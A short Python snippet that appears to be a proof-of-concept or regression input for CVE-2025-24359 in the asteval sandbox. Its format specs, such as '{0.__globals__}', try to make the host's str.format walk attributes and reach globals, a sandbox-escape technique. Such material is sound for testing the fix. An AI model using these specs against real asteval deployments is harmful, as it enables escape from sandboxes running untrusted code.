# asteval CVE-2025-24359: f-string format specs evaluated with the host's str.format (FormattedValue spec traversal)
x = print
for spec in ('{0.__self__}', '{0.__globals__}', '{0.__class__.__mro__}', '{0.__init__.__globals__}'):
    try:
        f'{x:{spec}}'
    except (TypeError, ValueError) as e:
        pass
class F:
    def __format__(self, spec):
        return spec
f'{F():{"{0.__self__}".format(print)}}'
f'{F()!r:>10}'
